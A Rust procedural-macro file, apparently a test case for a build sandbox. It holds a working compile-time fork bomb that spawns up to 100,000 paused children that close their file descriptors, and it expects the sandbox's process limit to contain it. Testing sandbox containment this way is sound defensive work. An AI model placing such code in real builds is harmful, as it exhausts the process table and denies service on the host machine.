//! Tries: to take all processes of the machine from inside the compiler
//! Aims at: host
//! Stopped by: the limit of tasks, and death of the whole namespace
//! Expect: fails
//! Fails with: BuildFailed: the build failed
//! Shows: ATTACK: contained: no more processes
//! Template: macro
//! Alone: because on machines without the pids controller the limit is one for all processes of the user

use proc_macro::TokenStream;

unsafe extern "C" {
    fn fork() -> i32;
    fn pause() -> i32;
    fn close_range(first: u32, last: u32, flags: u32) -> i32;
}

#[proc_macro]
pub fn trick(_: TokenStream) -> TokenStream {
    for _ in 0..100_000 {
        match unsafe { fork() } {
            // Without the compiler's output, for whose end cargo would wait as long as it may.
            0 => loop {
                unsafe { close_range(0, u32::MAX, 0) };
                unsafe { pause() };
            },
            -1 => {
                eprintln!("ATTACK: contained: no more processes");
                std::process::exit(1);
            }
            _ => {}
        }
    }
    eprintln!("ATTACK: SUCCEEDED: 100000 processes");
    TokenStream::new()
}
